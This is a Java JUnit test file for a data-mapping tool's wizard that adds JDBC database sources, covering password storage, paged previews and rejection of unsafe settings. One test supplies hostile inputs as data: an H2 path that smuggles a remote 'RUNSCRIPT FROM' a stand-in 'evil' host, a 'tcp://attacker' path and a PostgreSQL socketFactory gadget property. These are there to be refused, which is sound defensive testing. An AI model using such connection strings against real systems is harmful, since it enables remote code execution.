package org.mapwright.ui.sources.wizards;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Statement;
import java.util.List;
import java.util.Optional;
import java.util.Random;

import org.eclipse.swt.SWT;
import org.eclipse.swt.widgets.Event;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mapwright.connector.jdbc.JdbcConnector;
import org.mapwright.connector.jdbc.JdbcUrls;
import org.mapwright.core.DataType;
import org.mapwright.core.Field;
import org.mapwright.core.Ids;
import org.mapwright.core.SourceDef;
import org.mapwright.core.connector.CredentialStore;
import org.mapwright.ui.sources.Databases;
import org.mapwright.ui.sources.SourcesTest;

class AddJdbcSourceWizardTest {

    @TempDir
    Path temp;

    private SourcesTest ui;

    @BeforeEach
    void open() throws Exception {
        ui = new SourcesTest(temp);
        Databases.createShop(ui.projectDir.resolve("data/shop"), 120);
    }

    @AfterEach
    void close() {
        ui.close();
    }

    private AddJdbcSourceWizard wizard() {
        return new AddJdbcSourceWizard(ui.session, new JdbcConnector(new Ids(new Random(1))), ui.secrets, ui.context.get(CredentialStore.class),
                new Ids(new Random(2)));
    }

    private static void select(org.eclipse.swt.widgets.Combo combo, int index) {
        combo.select(index);
        combo.notifyListeners(SWT.Selection, new Event());
    }

    @Test
    void addsAnH2TableWithThePasswordInSecureStorageOnly() throws Exception {
        AddJdbcSourceWizard wizard = wizard();
        SourcesTest.Dialog dialog = ui.open(wizard);
        JdbcConnectionPage connection = wizard.connectionPage();
        assertEquals(JdbcUrls.H2, connection.kind());
        connection.h2PathText().setText("data/shop");
        connection.userText().setText("sa");
        connection.passwordText().setText("wrong");
        assertTrue(connection.isPageComplete(), "the settings are acceptable");
        connection.testButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> !connection.testing() && !connection.testStatus().isEmpty() && !connection.testStatus().equals("Connecting…"),
                "the failed test is reported");
        assertTrue(connection.testStatus().contains("H2 file"), connection.testStatus());
        assertFalse(connection.testStatus().contains("Connected"), connection.testStatus());
        assertFalse(connection.testStatus().contains("wrong"), "no password in messages: " + connection.testStatus());

        connection.passwordText().setText(Databases.CANARY);
        connection.testButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> connection.testStatus().startsWith("Connected"), "the test connects");

        dialog.next();
        JdbcTablePage tables = wizard.tablePage();
        ui.waitUntil(() -> !tables.busy() && tables.tableList().getTable().getItemCount() == 3, "the tables and the view are listed");
        assertTrue(tables.selectTable("orders"));
        ui.waitUntil(() -> tables.isPageComplete() && tables.previewTable().getItemCount() == AddJdbcSourceWizard.PAGE_ROWS,
                "the first page is shown");
        assertEquals("orders", tables.nameText().getText());
        assertEquals("1", tables.previewTable().getItem(0).getText(1));
        assertTrue(tables.nextPageButton().isEnabled());
        assertFalse(tables.previousPageButton().isEnabled());
        tables.nextPageButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> !tables.busy() && tables.pageStart() == 51, "the second page is shown");
        assertEquals("51", tables.previewTable().getItem(0).getText(1));
        tables.nextPageButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> !tables.busy() && tables.pageStart() == 101, "the last page is shown");
        assertEquals(20, tables.previewTable().getItemCount());
        assertFalse(tables.nextPageButton().isEnabled(), "no page follows the last");

        dialog.next();
        FieldsPage fields = wizard.fieldsPage();
        ui.waitUntil(fields::isPageComplete, "the columns are read");
        assertEquals(List.of("ID", "CUSTOMER_ID", "AMOUNT"), fields.schema().fields().stream().map(Field::name).toList());
        assertTrue(fields.schema().fields().get(0).key(), "the primary key is marked");
        assertEquals(DataType.DECIMAL, fields.schema().fields().get(2).type());
        dialog.finish();

        SourceDef added = ui.session.project().sourceByName("orders").orElseThrow();
        assertEquals("jdbc", added.connector());
        assertEquals("ORDERS", added.settings().getString(JdbcConnector.TABLE, null));
        assertEquals("PUBLIC", added.settings().getString(JdbcConnector.SCHEMA, null));
        String key = added.settings().getString(JdbcUrls.CREDENTIAL_KEY, null);
        assertEquals("jdbc/" + added.id() + "/password", key);
        assertEquals(Optional.of(Databases.CANARY), ui.secrets.secret(key), "the password is in secure storage");
        assertEquals(Optional.of(Databases.CANARY), ui.context.get(CredentialStore.class).secret(key), "previews and runs find it");

        ui.session.document().save(ui.session.io());
        String saved = Files.readString(ui.session.document().file(), StandardCharsets.UTF_8);
        assertTrue(saved.contains(key), "the project names the credential key");
        assertFalse(saved.contains(Databases.CANARY), "the password is not in mapwright.json");
        assertFalse(added.settings().toString().contains(Databases.CANARY));
    }

    @Test
    void showsRefusedSettingsWithTheConnectorsMessageBeforeConnecting() {
        AddJdbcSourceWizard wizard = wizard();
        ui.open(wizard);
        JdbcConnectionPage connection = wizard.connectionPage();
        assertNull(connection.getErrorMessage(), "an untouched form is not an error");
        assertEquals("Choose the H2 database file.", connection.getMessage());
        assertFalse(connection.isPageComplete());
        connection.h2PathText().setText("data/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
        assertFalse(connection.isPageComplete());
        assertTrue(connection.getErrorMessage().startsWith("Refused connection settings: setting 'path'"), connection.getErrorMessage());
        assertFalse(connection.testButton().isEnabled(), "a refused connection cannot be tested");
        connection.h2PathText().setText("tcp://attacker/db");
        assertTrue(connection.getErrorMessage().contains("local files only"), connection.getErrorMessage());

        select(connection.kindCombo(), 1);
        assertEquals(JdbcUrls.POSTGRESQL, connection.kind());
        connection.hostText().setText("127.0.0.1");
        connection.databaseText().setText("test");
        assertNull(connection.getErrorMessage());
        connection.propertiesText().setText("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext");
        assertTrue(connection.getErrorMessage().startsWith("Refused connection settings:") && connection.getErrorMessage().contains("socketFactory"),
                connection.getErrorMessage());
        connection.propertiesText().setText("sslmode=disable");
        assertNull(connection.getErrorMessage(), "an allow-listed property passes");
        connection.hostText().setText("db.example.com/other?x=1");
        assertTrue(connection.getErrorMessage().contains("host"), connection.getErrorMessage());

        select(connection.kindCombo(), 2);
        connection.urlText().setText("jdbc:h2:mem:x");
        connection.driverClassText().setText("org.h2.Driver");
        connection.driverJarText().setText("missing.jar");
        assertTrue(connection.getErrorMessage().startsWith("Refused connection settings:"), connection.getErrorMessage());
    }

    @Test
    void testsAGenericDriverFromAJarAndShowsTheConnectorsMessage() throws Exception {
        Path h2 = Path.of(org.h2.Driver.class.getProtectionDomain().getCodeSource().getLocation().toURI());
        org.junit.jupiter.api.Assumptions.assumeTrue(Files.isRegularFile(h2) && h2.toString().endsWith(".jar"),
                "the H2 driver is not loaded from a jar file here (" + h2 + "), so there is no driver jar to test with");
        Files.createDirectories(ui.projectDir.resolve("drivers"));
        Files.copy(h2, ui.projectDir.resolve("drivers/stranger.jar"));
        AddJdbcSourceWizard wizard = wizard();
        ui.open(wizard);
        JdbcConnectionPage connection = wizard.connectionPage();
        select(connection.kindCombo(), 2);
        assertEquals(JdbcUrls.GENERIC, connection.kind());
        assertNull(connection.getErrorMessage());
        connection.driverJarText().setText("drivers/stranger.jar");
        connection.driverClassText().setText("org.h2.Driver");
        connection.urlText().setText("jdbc:stranger:warehouse;password=x");
        assertTrue(connection.getErrorMessage().contains("password"), "no inline passwords: " + connection.getErrorMessage());
        connection.urlText().setText("jdbc:stranger:warehouse");
        assertNull(connection.getErrorMessage());
        connection.testButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> !connection.testing() && connection.testStatus().contains("does not accept the URL"), "the driver's answer is shown");
        assertEquals("drivers/stranger.jar", connection.connectionSettings().getString(JdbcUrls.DRIVER_JAR, null));
    }

    @Test
    void addsAQueryWithAPagedPreview() throws Exception {
        AddJdbcSourceWizard wizard = wizard();
        SourcesTest.Dialog dialog = ui.open(wizard);
        JdbcConnectionPage connection = wizard.connectionPage();
        connection.h2PathText().setText("data/shop");
        connection.passwordText().setText(Databases.CANARY);
        dialog.next();
        JdbcTablePage tables = wizard.tablePage();
        ui.waitUntil(() -> !tables.busy() && tables.tableList().getTable().getItemCount() == 3, "the tables are listed");
        tables.useQuery("SELECT ID, AMOUNT FROM ORDERS WHERE AMOUNT >= 6 ORDER BY ID");
        tables.nameText().setText("big_orders");
        ui.waitUntil(() -> tables.isPageComplete() && tables.previewTable().getItemCount() == AddJdbcSourceWizard.PAGE_ROWS, "the query is previewed");
        assertEquals("60", tables.previewTable().getItem(0).getText(1));
        tables.nextPageButton().notifyListeners(SWT.Selection, new Event());
        ui.waitUntil(() -> !tables.busy() && tables.pageStart() == 51, "the second page of the query");
        assertEquals(11, tables.previewTable().getItemCount());
        tables.useQuery("DELETE FROM ORDERS");
        ui.waitUntil(() -> !tables.busy() && tables.getErrorMessage() != null, "a writing statement is refused");
        assertFalse(tables.isPageComplete());
        tables.useQuery("SELECT ID, AMOUNT FROM ORDERS WHERE AMOUNT >= 6");
        ui.waitUntil(tables::isPageComplete, "the query is valid again");
        dialog.next();
        ui.waitUntil(wizard.fieldsPage()::isPageComplete, "the columns are read");
        dialog.finish();
        SourceDef added = ui.session.project().sourceByName("big_orders").orElseThrow();
        assertEquals("SELECT ID, AMOUNT FROM ORDERS WHERE AMOUNT >= 6", added.settings().getString(JdbcConnector.QUERY, null));
        assertFalse(added.settings().has(JdbcConnector.TABLE));
    }

    @Test
    void addsAPostgresqlTableWhenTheTestServerIsReachable() throws Exception {
        Databases.assumePostgres();
        try (Connection c = Databases.postgres(); Statement st = c.createStatement()) {
            st.execute("DROP TABLE IF EXISTS mw_ui_sources_wizard");
            st.execute("CREATE TABLE mw_ui_sources_wizard (id bigint PRIMARY KEY, label text)");
            st.execute("INSERT INTO mw_ui_sources_wizard SELECT g, 'row ' || g FROM generate_series(1, 75) g");
        }
        try {
            AddJdbcSourceWizard wizard = wizard();
            SourcesTest.Dialog dialog = ui.open(wizard);
            JdbcConnectionPage connection = wizard.connectionPage();
            select(connection.kindCombo(), 1);
            connection.hostText().setText(Databases.PG_HOST);
            connection.portText().setText(String.valueOf(Databases.PG_PORT));
            connection.databaseText().setText(Databases.PG_DATABASE);
            connection.userText().setText(Databases.PG_USER);
            connection.testButton().notifyListeners(SWT.Selection, new Event());
            ui.waitUntil(() -> connection.testStatus().startsWith("Connected"), "the test connects to PostgreSQL");
            dialog.next();
            JdbcTablePage tables = wizard.tablePage();
            ui.waitUntil(() -> !tables.busy() && tables.selectTable("mw_ui_sources_wizard"), "the table is listed");
            ui.waitUntil(() -> tables.isPageComplete() && tables.previewTable().getItemCount() == 50, "the first page is shown");
            dialog.next();
            ui.waitUntil(wizard.fieldsPage()::isPageComplete, "the columns are read");
            dialog.finish();
            SourceDef added = ui.session.project().sourceByName("mw_ui_sources_wizard").orElseThrow();
            assertEquals("postgresql", added.settings().getString(JdbcUrls.DRIVER, null));
            assertEquals(5432L, added.settings().getLong(JdbcUrls.PORT, -1));
            assertFalse(added.settings().has(JdbcUrls.CREDENTIAL_KEY), "no password typed, no key");
        } finally {
            try (Connection c = Databases.postgres(); Statement st = c.createStatement()) {
                st.execute("DROP TABLE IF EXISTS mw_ui_sources_wizard");
            }
        }
    }
}
